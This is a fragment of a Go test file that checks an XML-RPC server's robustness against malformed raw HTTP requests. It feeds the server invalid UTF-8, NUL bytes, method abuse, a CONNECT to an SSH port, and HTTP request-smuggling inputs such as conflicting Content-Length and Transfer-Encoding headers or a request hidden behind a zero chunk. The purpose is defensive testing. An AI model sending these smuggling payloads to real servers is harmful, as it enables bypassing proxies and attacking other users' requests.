		return fmt.Sprintf("POST / HTTP/1.1\r\nHost: x\r\n%sContent-Length: %d\r\n\r\n%s", h, len(body), body)
	}
	str := func(s string) string { return callHead + "<string>" + s + "</string>" + callTail }
	chunk := func(s string) string { return fmt.Sprintf("%x\r\n%s\r\n0\r\n\r\n", len(s), s) }
	type reply struct {
		status int
		fault  int    // 0: a v3 reply with geni_code 0 (for 200 text/xml)
		msg    string // in the fault string or the body
	}
	ok := reply{status: 200}
	parse := func(msg string) reply { return reply{status: 200, fault: FaultParse, msg: msg} }
	cases := []struct {
		name    string
		raw     string
		replies []reply
		closed  bool // the server closes the connection after the replies
	}{
		{"invalid UTF-8", post(str("caf\xc3\x28 \xff\xfe")), []reply{parse("invalid UTF-8")}, false},
		{"overlong UTF-8", post(str("\xc0\xafetc")), []reply{parse("invalid UTF-8")}, false},
		{"UTF-16 surrogate in UTF-8", post(str("\xed\xa0\x80")), []reply{parse("invalid UTF-8")}, false},
		{"NUL byte", post(str("a\x00b")), []reply{parse("illegal character code U+0000")}, false},
		{"NUL character reference", post(str("a&#0;b")), []reply{parse("illegal character code U+0000")}, false},
		{"control character", post(str("a\x01b")), []reply{parse("illegal character code U+0001")}, false},
		{"U+FFFE", post(str("a\xef\xbf\xbeb")), []reply{parse("illegal character code U+FFFE")}, false},
		{"NUL in method name", post("<methodCall><methodName>GetVersion\x00</methodName></methodCall>"), []reply{parse("U+0000")}, false},
		{"UTF-8 BOM", post("\xef\xbb\xbf" + getVersion), []reply{ok}, false},
		{"UTF-16 BOM", post("\xff\xfe<\x00m\x00"), []reply{parse("")}, false},
		{"UTF-16 declared", post(`<?xml version="1.0" encoding="UTF-16"?>` + getVersion[strings.Index(getVersion, "<methodCall"):]),
			[]reply{parse(`unsupported encoding "UTF-16"`)}, false},
		{"Latin-1 declared", post(`<?xml version="1.0" encoding="ISO-8859-1"?>` + getVersion[strings.Index(getVersion, "<methodCall"):]),
			[]reply{parse(`unsupported encoding "ISO-8859-1"`)}, false},
		{"empty body", post(""), []reply{parse("unexpected end of document")}, false},
		{"JSON body", post(`{"method":"GetVersion"}`, "Content-Type: application/json"), []reply{parse("")}, false},
		{"wrong Content-Type", post(getVersion, "Content-Type: application/json"), []reply{ok}, false},
		{"no Content-Type", "POST / HTTP/1.1\r\nHost: x\r\nContent-Length: " + fmt.Sprint(len(getVersion)) + "\r\n\r\n" + getVersion, []reply{ok}, false},
		{"GET", "GET / HTTP/1.1\r\nHost: x\r\n\r\n", []reply{{status: 405, msg: "POST a methodCall"}}, false},
		{"PUT", "PUT / HTTP/1.1\r\nHost: x\r\nContent-Length: 3\r\n\r\nabc", []reply{{status: 405}}, false},
		{"HEAD", "HEAD / HTTP/1.1\r\nHost: x\r\n\r\n", []reply{{status: 405}}, false},
		{"OPTIONS *", "OPTIONS * HTTP/1.1\r\nHost: x\r\n\r\n", []reply{{status: 200}}, false},
		{"CONNECT", "CONNECT 127.0.0.1:22 HTTP/1.1\r\nHost: 127.0.0.1:22\r\n\r\n", []reply{{status: 405}}, false},
		{"HTTP/1.0 without Host", "POST / HTTP/1.0\r\nContent-Length: " + fmt.Sprint(len(getVersion)) + "\r\n\r\n" + getVersion, []reply{ok}, true},
		{"HTTP/1.1 without Host", "POST / HTTP/1.1\r\nContent-Length: " + fmt.Sprint(len(getVersion)) + "\r\n\r\n" + getVersion,
			[]reply{{status: 400, msg: "missing required Host header"}}, true},
		// Without HTTP/2 configured, net/http hands PRI to the handler.
		{"HTTP/2 preface", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", []reply{{status: 405}}, true},
		{"HTTP/0.9", "GET /\r\n", []reply{{status: 400}}, true},
		{"pipelined", post(getVersion) + post(getVersion) + "GET / HTTP/1.1\r\nHost: x\r\n\r\n" + post(getVersion),
			[]reply{ok, ok, {status: 405}, ok}, false},
		// RFC 9112 6.3: the chunks frame the body, and the connection is
		// closed after the reply, so nothing smuggled behind them is served.
		{"Content-Length and Transfer-Encoding", "POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n" + chunk(getVersion),
			[]reply{ok}, true},
		{"smuggled request behind a zero chunk", "POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 60\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + post(getVersion),
			[]reply{parse("unexpected end of document")}, true},
		{"two Content-Lengths", "POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nContent-Length: 5\r\n\r\nabcde", []reply{{status: 400}}, true},
		{"negative Content-Length", "POST / HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n", []reply{{status: 400}}, true},
		{"Transfer-Encoding gzip", "POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: gzip, chunked\r\n\r\n" + chunk(getVersion), []reply{{status: 501}}, true},
		{"Transfer-Encoding chunked twice", "POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n" + chunk(getVersion),
			[]reply{{status: 501}}, true},
		{"chunked", "POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n" + chunk(getVersion), []reply{ok}, true},
		{"bad chunk size", "POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nabc\r\n0\r\n\r\n", []reply{parse("cannot read the request")}, true},
		{"header without colon", "POST / HTTP/1.1\r\nHost: x\r\nbroken header\r\n\r\n", []reply{{status: 400}}, true},
		// RFC 9112 5.2 allows replacing obs-fold with spaces, as net/http does.
		{"obsolete line folding", "POST / HTTP/1.1\r\nHost: x\r\nX-A: a\r\n b\r\nContent-Length: 0\r\n\r\n", []reply{parse("unexpected end of document")}, false},
		{"bare LF line ends", "POST / HTTP/1.1\nHost: x\nContent-Length: " + fmt.Sprint(len(getVersion)) + "\n\n" + getVersion, []reply{ok}, false},
		{"NUL in header", "POST / HTTP/1.1\r\nHost: x\r\nX-A: a\x00b\r\nContent-Length: 0\r\n\r\n", []reply{{status: 400}}, true},
		{"absolute URL to elsewhere", "POST http://192.0.2.1/ HTTP/1.1\r\nHost: 192.0.2.1\r\nContent-Length: " + fmt.Sprint(len(getVersion)) + "\r\n\r\n" + getVersion,
			[]reply{ok}, false},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			conn := hs.dial(t)
			defer conn.Close()
			go func() { _, _ = io.WriteString(conn, c.raw) }()
			br := bufio.NewReader(conn)
			for i, want := range c.replies {
				method := http.MethodPost
				if strings.HasPrefix(c.raw, "HEAD") {
					method = http.MethodHead
				}
				_ = conn.SetReadDeadline(time.Now().Add(5 * time.Second))
				resp, err := http.ReadResponse(br, &http.Request{Method: method})
				if err != nil {
					t.Fatalf("reply %d: %v", i, err)
				}
				body, _ := io.ReadAll(resp.Body)
				resp.Body.Close()
				if resp.StatusCode != want.status {
					t.Errorf("reply %d: %s (%.200q), want %d", i, resp.Status, body, want.status)
					continue
				}
				if want.status == http.StatusMethodNotAllowed && resp.Header.Get("Allow") != http.MethodPost {
					t.Errorf("reply %d: 405 without Allow: POST", i)
				}
				if resp.StatusCode != http.StatusOK || !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/xml") {
					if !strings.Contains(string(body), want.msg) {
						t.Errorf("reply %d: body %.200q does not mention %q", i, body, want.msg)
					}
					continue
				}
				v, err := xmlrpc.DecodeResponse(bytes.NewReader(body), xmlrpc.Limits{})
				if want.fault != 0 {
					wantFault(t, fmt.Sprintf("reply %d", i), err, want.fault, want.msg)
					continue
				}
				if err != nil {
					t.Errorf("reply %d: %v", i, err)
				} else if m, ok := v.(map[string]any); !ok || codeOf(t, m) != 0 {
					t.Errorf("reply %d: %v", i, v)
				}
			}
			// Nothing more: either the connection is kept for another call
			// (no stray reply), or it is closed.
			wait := 200 * time.Millisecond
			if c.closed {
				wait = 5 * time.Second // a close comes at once; the slack is for a loaded machine
			}
			_ = conn.SetReadDeadline(time.Now().Add(wait))
			n, err := br.Read(make([]byte, 1))
			var ne net.Error
			timedOut := errors.As(err, &ne) && ne.Timeout()
			switch {
			case n > 0:
				t.Errorf("a stray reply after the expected ones")
			case c.closed && timedOut:
				t.Errorf("the connection was kept open, want it closed")
			case !c.closed && !timedOut:
				t.Errorf("the connection was closed (%v), want it kept", err)
			}
		})
	}
}
